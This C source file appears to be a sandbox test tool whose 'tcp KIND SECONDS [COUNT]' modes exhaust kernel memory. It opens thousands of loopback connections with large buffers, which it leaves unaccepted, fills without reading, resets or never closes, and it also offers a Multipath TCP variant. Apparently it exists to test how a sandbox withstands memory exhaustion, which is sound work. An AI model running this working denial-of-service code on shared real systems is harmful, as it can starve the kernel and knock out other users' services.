/* SPDX-License-Identifier: Apache-2.0 */
/* tcp KIND SECONDS [COUNT]: fills the kernel's memory with 4,000 connections of the sandbox to
 * itself, and begins again when it loses them. With COUNT it holds so many idle ones meanwhile,
 * which make the kernel's list of sockets long.
 *   backlog   nobody accepts them; the listener asks for large receive buffers
 *   accepted  they are filled while they wait and accepted then; nobody reads
 *   reset     as backlog, but the client resets each but the first when it has sent: the kernel
 *             lists such a connection nowhere
 *   stubborn  as accepted, and none is ever closed, also when it was reset: only the end of the
 *             process frees its memory
 *   mptcp     as backlog, by Multipath TCP
 *   busy      no attack: COUNT connections that are always full and always read; tells how many
 *             broke */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { CONNECTIONS = 4000, BATCH = 64, MULTIPATH = 262 };

static char bytes[1 << 18];
static int protocol;

static int open_socket(int option)
{
    int size = 1 << 22, fd = socket(AF_INET, SOCK_STREAM, protocol);
    if (fd >= 0)
        setsockopt(fd, SOL_SOCKET, option, &size, sizeof(size));
    return fd;
}

static int open_listener(struct sockaddr_in *at)
{
    int fd = open_socket(SO_RCVBUF);
    socklen_t len = sizeof(*at);
    *at = (struct sockaddr_in){.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    if (fd < 0 || bind(fd, (struct sockaddr *)at, len) < 0 || listen(fd, 4096) < 0
        || getsockname(fd, (struct sockaddr *)at, &len) < 0)
        return -1;
    fcntl(fd, F_SETFL, O_NONBLOCK);
    return fd;
}

static void reset(int fd)
{
    struct linger now = {.l_onoff = 1};
    setsockopt(fd, SOL_SOCKET, SO_LINGER, &now, sizeof(now));
    close(fd);
}

/* The connection, full; -1: there is nobody to connect to any more. */
static int fill(const struct sockaddr_in *at)
{
    int fd = open_socket(SO_SNDBUF);
    if (fd < 0)
        return -1;
    fcntl(fd, F_SETFL, O_NONBLOCK);
    struct pollfd p = {.fd = fd, .events = POLLOUT};
    if ((connect(fd, (const struct sockaddr *)at, sizeof(*at)) < 0 && errno != EINPROGRESS)
        || poll(&p, 1, 1000) <= 0 || (p.revents & (POLLERR | POLLHUP)) != 0) {
        close(fd);
        return -1;
    }
    while (send(fd, bytes, sizeof(bytes), MSG_NOSIGNAL) > 0)
        ;
    return fd;
}

static void attack(const char *kind)
{
    static int held[2 * CONNECTIONS];
    struct sockaddr_in at;
    struct pollfd gone = {.fd = open_listener(&at)};
    int count = 0;
    bool is_stubborn = strcmp(kind, "stubborn") == 0;
    for (int made = 0; gone.fd >= 0 && made < CONNECTIONS; made++) {
        int fd = fill(&at);
        if (fd < 0)
            break;
        if (strcmp(kind, "reset") == 0 && made > 0)
            reset(fd);
        else
            held[count++] = fd;
        if ((strcmp(kind, "accepted") != 0 && !is_stubborn) || made % BATCH != 0)
            continue;
        for (int got = accept(gone.fd, NULL, NULL); got >= 0; got = accept(gone.fd, NULL, NULL))
            held[count++] = got;
    }
    while (gone.fd >= 0 && poll(&gone, 1, -1) < 1) /* until the listener is closed by others */
        ;
    close(gone.fd);
    while (count > 0 && !is_stubborn)
        close(held[--count]);
}

static void write_to(struct pollfd *to, int count)
{
    for (;;) {
        poll(to, (nfds_t)count, -1);
        for (int i = 0; i < count; i++)
            while (to[i].revents != 0 && send(to[i].fd, bytes, sizeof(bytes), MSG_NOSIGNAL) > 0)
                ;
    }
}

static int read_from(struct pollfd *from, int count, time_t until)
{
    int broken = 0;
    while (time(NULL) < until) {
        poll(from, (nfds_t)count, 1000);
        for (int i = 0; i < count; i++) {
            if (from[i].revents == 0 || recv(from[i].fd, bytes, sizeof(bytes), 0) > 0
                || errno == EAGAIN)
                continue;
            broken++;
            from[i].fd = -1;
        }
    }
    return broken;
}

static void keep_busy(int seconds, int count)
{
    static struct pollfd from[CONNECTIONS], to[CONNECTIONS];
    struct sockaddr_in at;
    int listening = open_listener(&at);
    for (int i = 0; i < count; i++) {
        to[i] = (struct pollfd){.fd = socket(AF_INET, SOCK_STREAM, 0), .events = POLLOUT};
        connect(to[i].fd, (struct sockaddr *)&at, sizeof(at));
        fcntl(to[i].fd, F_SETFL, O_NONBLOCK);
        from[i] = (struct pollfd){.fd = accept(listening, NULL, NULL), .events = POLLIN};
        fcntl(from[i].fd, F_SETFL, O_NONBLOCK);
    }
    pid_t writer = fork();
    if (writer == 0)
        write_to(to, count);
    printf("broken %d\n", read_from(from, count, time(NULL) + seconds));
    kill(writer, SIGKILL);
}

static int make_idle(int count)
{
    struct sockaddr_in at;
    int made = 0, listening = open_listener(&at);
    while (made < count) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (fd < 0 || connect(fd, (struct sockaddr *)&at, sizeof(at)) < 0
            || accept(listening, NULL, NULL) < 0)
            break;
        made++;
    }
    return made;
}

/* In processes of their own, because of the limit on descriptors. Returns how many there are. */
static int hold_idle(int count)
{
    enum { EACH = 4000 };
    int held = 0;
    for (int want; count > 0; count -= want) {
        int told[2], made = 0;
        want = count < EACH ? count : EACH;
        if (pipe(told) < 0)
            return held;
        if (fork() == 0) {
            prctl(PR_SET_PDEATHSIG, SIGKILL);
            made = make_idle(want);
            (void)!write(told[1], &made, sizeof(made));
            for (;;)
                pause();
        }
        (void)!read(told[0], &made, sizeof(made));
        close(told[0]);
        close(told[1]);
        held += made;
    }
    return held;
}

int main(int argc, char **argv)
{
    struct rlimit many;
    if (argc < 3 || getrlimit(RLIMIT_NOFILE, &many) < 0)
        return 2;
    protocol = strcmp(argv[1], "mptcp") == 0 ? MULTIPATH : 0;
    many.rlim_cur = many.rlim_max;
    setrlimit(RLIMIT_NOFILE, &many);
    if (strcmp(argv[1], "busy") == 0) {
        keep_busy(atoi(argv[2]), argc > 3 ? atoi(argv[3]) : 100);
        return 0;
    }
    struct sockaddr_in at;
    int first = open_listener(&at);
    if (first < 0) {
        printf("refused %s\n", strerror(errno));
        return 0;
    }
    close(first);
    if (argc > 3)
        printf("idle %d\n", hold_idle(atoi(argv[3])));
    fflush(stdout);
    alarm((unsigned)atoi(argv[2])); /* ends it */
    for (;;)
        attack(argv[1]);
}
